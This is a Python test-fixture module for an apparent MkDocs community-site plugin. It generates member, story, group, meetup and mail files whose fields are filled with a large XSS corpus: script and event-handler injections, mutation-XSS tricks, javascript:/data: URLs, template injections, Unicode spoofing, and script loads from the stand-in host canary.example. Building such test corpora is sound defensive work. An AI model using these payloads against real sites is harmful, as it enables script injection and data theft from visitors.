"""Texts that try to run something in a reader's browser, and a community that says them wherever anyone can say anything.

Each calls `ran(...)`, or asks `canary.example` for something: the tests listen for both.
"""

from __future__ import annotations

import json
import re
from collections.abc import Mapping

CANARY = "https://canary.example/"

PAYLOADS = (
    "Plain words",  # the first record is harmless: what its pages are made of, all others have to be made of
    # --- elements that run, or load
    "<script>ran(1)</script>",
    "<ScRiPt>ran(1)</sCrIpT >",
    "<script src=https://canary.example/x.js></script>",
    "<script/src='//canary.example/x.js'>",
    "<script\n>ran(1)</script\n>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<<script>ran(1);//<</script>",
    "<script>ran(1)",
    "<script type=module>import 'https://canary.example/x.js'</script>",
    "<img src=x onerror=ran(1)>",
    "<img/src=x/onerror=ran(1)//",
    "<img src=https://canary.example/x.gif onload=ran(1) onerror=ran(1)>",
    "<img srcset='https://canary.example/x.gif 1x' src=x>",
    '"><img src=x onerror=ran(1)>',
    "'><img src=x onerror=ran(1)>",
    "x' onmouseover='ran(1)' autofocus onfocus='ran(1)' x='",
    'x" onmouseover="ran(1)" autofocus tabindex=1 onfocus="ran(1)" x="',
    "` onfocus=ran(1) autofocus `",
    '<b title="<img onerror=ran(1) src=x ">x</b><b title="<pre><img src=x onerror=ran(1)>">x</b>',
    "<svg onload=ran(1)></svg>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:ran(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran(1)</script>'></iframe></foreignObject></svg>",
    "<math><a xlink:href='javascript:ran(1)'>x</a></math>",
    "<math><maction actiontype=statusline#https://canary.example xlink:href='javascript:ran(1)'>x</maction></math>",
    "<iframe src='javascript:parent.ran(1)'></iframe>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=https://canary.example/></iframe>",
    "<object data='javascript:ran(1)'></object><embed src='javascript:ran(1)'>",
    "<object data=https://canary.example/x.swf></object><applet code=x archive=https://canary.example/x.jar></applet>",
    "<video src=https://canary.example/x.mp4 autoplay onerror=ran(1) poster=https://canary.example/p.png></video>",
    "<audio src=https://canary.example/x.mp3 autoplay onerror=ran(1)></audio>",
    "<details open ontoggle=ran(1)><summary>x</summary>y</details>",
    "<marquee onstart=ran(1)>x</marquee><body onload=ran(1)><select autofocus onfocus=ran(1)>",
    "<input autofocus onfocus=ran(1)><button popovertarget=p>x</button><p id=p popover onbeforetoggle=ran(1)>",
    "<x-foo style='animation:as-x 1s' onanimationstart=ran(1) onanimationend=ran(1)>x</x-foo>",
    "<portal src=https://canary.example/></portal><fencedframe src=https://canary.example/></fencedframe>",
    "<template shadowrootmode=open><script>ran(1)</script></template><slot name=x></slot>",
    "<alongside-moment moment=sign-up id=alongside onfocus=ran(1) tabindex=1 autofocus>x</alongside-moment>",
    # --- what changes the page around it
    "<base href=https://canary.example/>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "<link rel=stylesheet href=https://canary.example/x.css><link rel=import href=https://canary.example/x>",
    "<link rel=preload as=script href=https://canary.example/x.js><link rel=manifest href=https://canary.example/m>",
    "<style>*{background:url(https://canary.example/x)}</style>",
    "<style>@import 'https://canary.example/x.css';</style>",
    "<p style='background:url(https://canary.example/x);width:expression(ran(1));behavior:url(x.htc)'>x</p>",
    "<p style=position:fixed;inset:0;z-index:9999>x</p>",
    "<form action=https://canary.example/><input name=q><button formaction='javascript:ran(1)'>x</button></form>",
    "<isindex action='javascript:ran(1)' type=image><keygen autofocus onfocus=ran(1)>",
    "<a href=https://example.org/ ping=https://canary.example/ping target=_top download>x</a>",
    "<time datetime=x>ran</time><data value=x>x</data><output for=x>x</output><say key=x>x</say>",
    "<dialog open onclose=ran(1)><form method=dialog>x</form></dialog>",
    # --- names that stand in for the page's own
    "<a id=documentElement></a><a id=alongside name=alongside>x</a><img name=getElementById id=currentScript>",
    "<form id=document><input id=attributes name=attributes><input name=parentNode></form><b id=content>x</b>",
    "<a id=config href=https://canary.example/></a><a id=config name=url href=https://canary.example/x>x</a>",
    # --- addresses
    "[x](javascript:ran(1)) [y](JaVaScRiPt:ran(1)) [z](<java\tscript:ran(1)>)",
    "[x](&#106;avascript:ran(1)) [y](javascript&colon;ran(1)) [z](javascript&#0058ran(1))",
    "[x](&#1;javascript:ran(1)) [y](<\u00a0javascript:ran(1)>) [z](javascript\u200b:ran(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+) [y](data:text/html,<script>ran(1)</script>)",
    "[x](vbscript:ran(1)) [y](livescript:ran(1)) [z](blob:https://canary.example/x) [w](filesystem:https://x/y)",
    "![x](javascript:ran(1)) ![y](data:image/svg+xml,<svg/onload=ran(1)>) ![z](https://canary.example/md.png)",
    "![x](//canary.example/x.gif) ![y](\\\\canary.example/x.gif) ![z](/\\canary.example/x.gif)",
    "<javascript:ran(1)> <data:text/html,x> <https://example.org/\"onmouseover=ran(1)//> javascript:ran(1)",
    "[x]\n\n[x]: javascript:ran(1) 'y'\n\n[![a](https://canary.example/i.png)][r]\n\n[r]: <data:text/html,ran>",
    "[x](https://example.org/ '\"onmouseover=ran(1) x=') https://example.org/\"onmouseover=\"ran(1)",
    "<a href=javascript:ran(1)>x</a> <a href='java&Tab;script&NewLine;:ran(1)'>y</a> <a href=' &#14; javascript:ran(1)'>z</a>",
    "<a href='https:javascript:ran(1)'>x</a> <a href='feed:javascript:ran(1)'>y</a> <a href='view-source:javascript:ran(1)'>z</a>",
    "[x][^1] [^1]: \"><img src=x onerror=ran(1)>\n\n[^\"><img src=x onerror=ran(1)>]: y",
    "```\"><img/src=x/onerror=ran(1)>\nx\n```\n\n```x onmouseover=ran(1)\ny\n```",
    # --- what a second parser would see otherwise
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror=ran(1)>'></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
    "<svg><desc><math><annotation-xml encoding='text/html'><style><img src=x onerror=ran(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=ran(1)>'></xmp><plaintext>x",
    "<textarea><p title='</textarea><img src=x onerror=ran(1)>'></textarea><title><a title='</title><img src=x onerror=ran(1)>'>",
    "<table><td background=https://canary.example/x><tr><a href=x><table><b></a><img src=x onerror=ran(1)>",
    "<![CDATA[><img src=x onerror=ran(1)>]]><?xml-stylesheet href='https://canary.example/x'?><!doctype html><!ENTITY x>",
    "--><img src=x onerror=ran(1)><!-- --!><img src=x onerror=ran(1)>",
    "<!--[if IE]><script>ran(1)</script><![endif]--><comment><img src='</comment><img src=x onerror=ran(1)>'></comment>",
    # --- scripts, JSON, templates
    "</script><script>ran(1)</script>",
    "\\u003c/script\\u003e\\u003cscript\\u003eran(1)\\u003c/script\\u003e <!--<script>",
    "\\\"};ran(1);//\\x3cscript\\x3eran(1)\\x3c/script\\x3e\u2028ran(1)\u2029",
    "${ran(1)} {{constructor.constructor('ran(1)')()}} #{ran(1)} <%= ran(1) %> [[ran(1)]] AlongsideSlotContent",
    "';ran(1)//\";ran(1)//`;ran(1)//--></script>\">'><svg/onload=ran(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=ran(1)//>\\x3e",
    # --- letters
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e \u02c2img src=x onerror=ran(1)\u02c3 \u2039svg onload=ran(1)\u203a",
    "<\u0130mg src=x onerror=ran(1)><\u017fcript>ran(1)</\u017fcript><s\u017fvg onload=ran(1)>",
    "%3Cscript%3Eran(1)%3C/script%3E &lt;script&gt;ran(1)&lt;/script&gt; &amp;lt;img src=x onerror=ran(1)&amp;gt;",
    "+ADw-script+AD4-ran(1)+ADw-/script+AD4- <\u200dscript>ran(1)</script> \u00bcscript\u00beran(1)\u00bc/script\u00be",
    "\u202egnp.exe\u202d \u2066<script>ran(1)</script>\u2069 \u200f\u061c\u202a\u202b\u202c\u2067\u2068",
    "Zalgo " + "\u0301" * 60 + " \ufdfd\ufdfd \U000e0041\U000e0042 \ufeff\u00ad",
)  # fmt: skip

# In fields that hold an address: most of these have to be refused, and none may get out of its attribute.
URLS = (
    "https://example.org/plain",
    "javascript:ran(1)",
    "JAVASCRIPT:ran(1)",
    "java\tscript:ran(1)",
    "\x01javascript:ran(1)",
    " javascript:ran(1)",
    "javascript://example.org/%0aran(1)",
    "javascript://https://example.org/%0aran(1)",
    "data:text/html,<script>ran(1)</script>",
    "vbscript:ran(1)",
    "https:javascript:ran(1)",
    "//canary.example/x",
    "/\\canary.example/x",
    "https://example.org/?q='onmouseover='ran(1)",
    'https://example.org/?q="onmouseover="ran(1)',
    "https://example.org/?q=<script>ran(1)</script>",
    "https://example.org/?q=%22%3E%3Cscript%3Eran(1)%3C/script%3E&amp;quot;onmouseover=ran(1)",
    "https://example.org/`onmouseover=ran(1)`",
    "https://user@example.org/x",
    "http://[::1]:99999/x",
    "matrix:r/x:example.org?action=join'onmouseover='ran(1)",
    "xmpp:x@example.org?javascript:ran(1)",
    "irc://example.org/#x'onmouseover='ran(1)",
    "mailto:x@example.org?subject=<script>ran(1)</script>",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "https://exa\u202emple.org/x",
    "https://ex\u0430mple.org/'\"><img/src=x/onerror=ran(1)>",
)  # fmt: skip

EMBED = {"id": "sign-up", "owner": "growth", "where": "embed", "show": ["welcome", "story", "note", "group", "meetup"]}
CONSENT = {"since": "2026-01-01", "until": "2027-12-31", "for": ["page", "embed", "mail"]}


def quoted(value: object) -> str:
    """A value as YAML, whatever it holds: JSON's are YAML's, but for letters that JSON writes in two halves."""
    return re.sub(
        r"\\u(d[89ab]..)\\u(d[c-f]..)",
        lambda pair: f"\\U{ord(bytes.fromhex(pair[1] + pair[2]).decode('utf-16-be')):08x}",
        json.dumps(value),
    )


def yaml(fields: Mapping[str, object]) -> str:
    return "".join(f"{quoted(key)}: {quoted(value)}\n" for key, value in fields.items())


def record(fields: Mapping[str, object], body: str) -> str:
    return f"---\n{yaml(fields)}---\n{body}"


def in_one_line(payload: str) -> str:
    """As a field of one line takes it: control characters and line breaks would cost the record."""
    return " ".join("".join(" " if ord(char) < 32 or char in "\u2028\u2029" else char for char in payload).split())


def hostile_community() -> dict[str, str]:
    """Author files: payload number i stands in every field of every record number i."""
    # On every page, so only some; marks that turn text are the site's own here, and nobody else's.
    everything = " ".join(in_one_line(payload) for payload in PAYLOADS[5::8] if "\u202e" not in payload)
    files = {
        "mkdocs.yml": yaml(
            {
                "site_name": f"Ours {everything}",
                "site_description": everything,
                "site_url": "https://community.example.org/",
                "docs_dir": "content",
                "plugins": [
                    "search",
                    {
                        "alongside": {
                            "teams": {"growth": everything},
                            "organisation": {
                                "name": everything,
                                "postal": everything,
                                "privacy": URLS[16],
                                "conduct": URLS[16],
                                "email": "team@example.org",
                            },
                        }
                    },
                ],
            }
        ),
        "content/index.md": '# Home\n\n<alongside-moment moment="j0/sign-up"></alongside-moment>\n',
        "content/challenges.yml": yaml(
            {
                f"c{number}": {"title": {"en": f"C{number} {in_one_line(payload)}"}, "also": [f"A{number} {in_one_line(payload)}"]}
                for number, payload in enumerate(PAYLOADS)
            }
        ),
    }  # fmt: skip
    for number, payload in enumerate(PAYLOADS):
        files |= _records(number, payload)
    return files


def _records(number: int, payload: str) -> dict[str, str]:
    line = in_one_line(payload)
    url = URLS[number % len(URLS)]
    other = URLS[(number * 5 + 1) % len(URLS)]
    name = f"N{number} {line.replace('@', '')}"  # a name with an @ is refused
    body = f"{payload}\n\n> {payload}\n\n- {payload}\n\n**{payload}** {payload}\n\nThe end.\n"
    about = {"challenges": [f"c{number}"], "topics": [line]}
    place = {"label": f"L{number} {line}", "lat": 52.5, "lon": 13.4}
    member = {
        **about, "name": name, "pronouns": line, "place": place, "roles": [line], "welcomes": 5, "photo": url,
        "links": {line: url, f"{number}": other}, "consent": CONSENT, "languages": ["en"],
    }  # fmt: skip
    story = {
        **about, "title": f"T{number} {line}", "members": [f"m{number}"], "date": "2026-05-04", "roles": [line],
        "welcome": payload, "media": {"audio": url, "video": other, "transcript": url},
        "source": {"url": url, "license": line, "credit": line},
    }  # fmt: skip
    group = {
        **about, "name": f"G{number} {line}", "kind": "chat", "place": place, "conduct": other, "hosts": [f"m{number}"],
        "chat": [{"platform": line, "url": url}, {"platform": line, "url": other}],
    }  # fmt: skip
    meetup = {
        **about, "title": f"U{number} {line}", "group": f"g{number}", "starts": "2026-12-03 18:30", "duration": "1h",
        "timezone": "Europe/Berlin", "repeats": "every week", "times": 5, "place": place, "rsvp": url, "online": other,
        "hosts": [f"m{number}"],
        "changes": {
            "2026-12-10": {"status": "cancelled", "reason": line},
            "2026-12-17": {"title": line, "online": url, "place": place, "reason": line},
        },
    }  # fmt: skip
    return {
        f"content/members/m{number}.md": record(member, f"{body}\n## Welcome\n{body}\n## Check-in\n{body}"),
        f"content/stories/s{number}.md": record(story, body),
        f"content/groups/g{number}.md": record(group, body),
        f"content/meetups/u{number}.md": record(meetup, body),
        f"journeys/j{number}.yml": yaml({"title": f"J{number} {line}", "moments": [EMBED]}),
    }


def hostile_mails() -> dict[str, str]:
    """The same journeys with a mail each; apart, since compiling them takes as long as all the pages."""
    files = {}
    for number, payload in enumerate(PAYLOADS):
        line = in_one_line(payload)
        step = {
            "id": "welcome",
            "owner": "growth",
            "where": "mail",
            "after": "0 hours",
            "message": f"mails/m{number}.md",
        }
        files[f"journeys/j{number}.yml"] = yaml({"title": f"J{number} {line}", "moments": [EMBED, step]})
        files[f"journeys/mails/m{number}.md"] = mail(line, payload)
    return files


def mail(line: str, payload: str) -> str:
    """A mail that says the payload itself, and all that it can say of others. Braces would be Jinja's."""
    raw = "{% raw %}", "{% endraw %}"
    subject = quoted(f"{raw[0]}{line}{raw[1]} {{{{ newcomer.name }}}} {{{{ story.title }}}}")
    preheader = quoted(f"{raw[0]}{line}{raw[1]} {{{{ newcomer.text }}}}")
    return f"""\
---
subject: {subject}
preheader: {preheader}
---
{raw[0]}{payload}{raw[1]}

Dear {{{{ newcomer.name }}}}, {{{{ newcomer.text }}}} {{{{ newcomer.place }}}} {{{{ challenge.title }}}}

{{% if member.words %}}{{{{ member.words }}}}{{% endif %}} {{{{ member.name }}}} {{{{ member.pronouns }}}} {{{{ member.place }}}}

[{{{{ story.title }}}}]({{{{ story.url }}}}) [x]({{{{ newcomer.text }}}}) <a href="{{{{ newcomer.text }}}}" title="{{{{ newcomer.name }}}}">y</a>

{{% for reason in reasons %}}
- {{{{ reason }}}}
{{% endfor %}}

{{% for group in groups %}}
- [{{{{ group.name }}}}]({{{{ group.url }}}}) {{{{ group.where }}}} [chat]({{{{ group.chat }}}}) {{{{ group.chat }}}}
{{% endfor %}}

{{% for meetup in meetups %}}
- [{{{{ meetup.title }}}}]({{{{ meetup.url }}}}) {{{{ meetup.where }}}} {{{{ meetup.when }}}}
{{% endfor %}}
"""
